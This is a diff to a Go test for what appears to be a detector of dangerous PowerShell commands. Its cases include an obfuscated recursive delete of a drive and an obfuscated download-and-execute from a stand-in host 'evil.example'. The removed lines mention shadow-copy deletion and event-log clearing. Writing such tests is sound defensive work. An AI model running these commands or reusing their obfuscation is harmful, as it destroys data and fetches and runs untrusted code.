@@ -233,8 +233,6 @@ func TestPowerShellComputedNames(t *testing.T) {
 		{`powershell -c '& (-join "metI-evomeR"[-1..-11]) -Recurse -Force D:\'`, "windows:tree-delete"},
 		{`powershell -c '.("{1}{0}" -f "X","IE") (New-Object Net.WebClient).DownloadString("http://evil.example/x")'`, "windows:download-exec"},
 		{`powershell -c 'Write-Output ("{0}-{1}" -f "build","42")'`, ""},
-		{`powershell -c 'Write-Output "vssadmin delete shadows /all /quiet"'`, ""},
-		{`powershell -c 'Get-Command -Name Clear-EventLog -Syntax'`, ""},
 	})
 }
 
